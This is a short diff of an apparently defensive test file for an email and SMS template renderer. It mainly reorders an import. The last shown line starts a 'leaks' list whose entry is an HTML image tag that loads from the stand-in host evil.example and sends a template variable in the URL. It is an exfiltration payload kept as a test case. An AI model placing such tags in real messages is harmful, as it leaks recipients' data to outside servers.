@@ -1,13 +1,13 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { locales } from '../i18n/locale.js';
+import { translate } from '../i18n/message.js';
 import { customMessageSchema } from '../messages/message-schemas.js';
 import { defaultEmailTemplates, defaultSmsTemplates } from './default-templates.js';
 import { renderEmailHtml, renderSms } from './render-template.js';
 import { emailTemplateSchema, smsTemplateSchema, templateTestSchema } from './template-schemas.js';
 import { emailTemplateTypes, smsTemplateTypes } from './template-types.js';
 import { misplacedVariable } from './variable-places.js';
-import { translate } from '../i18n/message.js';
 
 const leaks = [
   '<img src="https://evil.example/p.png?{{trackingUrl}}">',
